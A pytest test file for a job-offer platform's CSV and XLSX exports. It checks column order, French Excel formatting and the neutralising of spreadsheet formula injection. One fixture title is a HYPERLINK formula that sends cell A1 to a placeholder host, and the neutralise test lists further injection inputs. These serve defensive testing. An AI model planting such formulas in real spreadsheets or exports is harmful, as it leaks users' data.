"""Exports: the rows once, then CSV for French Excel and XLSX, formula injection made inert."""

from __future__ import annotations

import csv
import datetime
import io

import openpyxl
import pytest
from django.utils import timezone

from emploi_territoires.offers.exports import HEADERS, export_rows, neutralise, to_csv, to_xlsx
from emploi_territoires.offers.models import Offer, OfferStatus
from tests.offers.factories import OfferFactory

CLOSING = datetime.date(2031, 3, 1)


@pytest.fixture
def offers(organisation_a):
    published = OfferFactory(
        organisation=organisation_a,
        title="Chef·fe de projet Petites villes de demain (F/H)",
        contract_type="contrat_projet",
        status=OfferStatus.PUBLISHED,
        salary_min=38_000,
        salary_max=45_000,
        closing_date=CLOSING,
        quality_score=82,
    )
    hostile = OfferFactory(
        organisation=organisation_a,
        title='=HYPERLINK("https://exemple.invalid/?"&A1;"Cliquez")',
        occupation=None,
        salary_min=None,
        salary_max=None,
        closing_date=None,
        start_date=None,
    )
    return [published, hostile]


def test_rows_hold_every_column_in_order(offers):
    headers, rows = export_rows(Offer.objects.order_by("pk"))
    assert headers == HEADERS
    first = dict(zip(headers, rows[0], strict=True))
    today = timezone.localdate()
    assert first == {
        "Référence": offers[0].reference,
        "Intitulé": "Chef·fe de projet Petites villes de demain (F/H)",
        "Code ROME": "M1403",
        "Métier": "Chargé / Chargée d'études socio-économiques",
        "Commune": "Saint-Étienne",
        "Code INSEE": "42218",
        "Contrat": "Contrat de projet",
        "État": "Publiée",
        "Créée le": today,
        "Publiée le": today,
        "Date limite de candidature": CLOSING,
        "Prise de poste": offers[0].start_date,
        "Salaire brut annuel min (€)": 38_000,
        "Salaire brut annuel max (€)": 45_000,
        "Score de qualité": 82,
    }
    second = dict(zip(headers, rows[1], strict=True))
    assert (second["Code ROME"], second["Salaire brut annuel min (€)"], second["Publiée le"]) == ("", None, None)


def test_rows_use_a_fixed_number_of_queries(offers, django_assert_num_queries):
    OfferFactory.create_batch(5, organisation=offers[0].organisation)
    with django_assert_num_queries(1):
        _, rows = export_rows(Offer.objects.all())
    assert len(rows) == 7


def test_csv_opens_in_french_excel(offers):
    data = to_csv(*export_rows(Offer.objects.order_by("pk")))
    assert data.startswith("\ufeff".encode())  # the BOM tells Excel it is UTF-8
    text = data.decode("utf-8-sig")
    assert "\r\n" in text
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
    assert rows[0] == HEADERS
    assert rows[1][1] == "Chef·fe de projet Petites villes de demain (F/H)"
    assert rows[1][10] == "01/03/2031"
    assert rows[1][12:15] == ["38000", "45000", "82"]
    assert rows[2][12:15] == ["", "", ""]
    # The formula is shown as text, never run.
    assert rows[2][1] == "'" + offers[1].title


def test_xlsx_opens_with_real_types(offers):
    data = to_xlsx(*export_rows(Offer.objects.order_by("pk")))
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    assert sheet.title == "Offres"
    values = list(sheet.iter_rows(values_only=True))
    assert list(values[0]) == HEADERS
    assert values[1][0] == offers[0].reference
    assert values[1][10].date() == CLOSING  # a real date cell (openpyxl reads it back as a naive datetime)
    assert sheet.cell(row=2, column=11).number_format == "DD/MM/YYYY"
    assert values[1][12] == 38_000
    assert values[2][1].startswith("'=HYPERLINK")
    assert sheet.cell(row=3, column=2).data_type == "s"  # a string, not a formula
    assert sheet.freeze_panes == "A2"
    assert sheet["A1"].font.bold


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+33 4 77 00 00 00", "'+33 4 77 00 00 00"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tcmd", "'\tcmd"),
        ("Chargé·e de mission", "Chargé·e de mission"),
        ("Bac+5 = un plus", "Bac+5 = un plus"),
        (-2, -2),
        (None, None),
    ],
)
def test_neutralise(value, expected):
    assert neutralise(value) == expected


def test_empty_export_has_headers_only(db):
    text = to_csv(*export_rows(Offer.objects.none())).decode("utf-8-sig")
    assert text == ";".join(HEADERS) + "\r\n"
    sheet = openpyxl.load_workbook(io.BytesIO(to_xlsx(*export_rows(Offer.objects.none())))).active
    assert sheet.max_row == 1
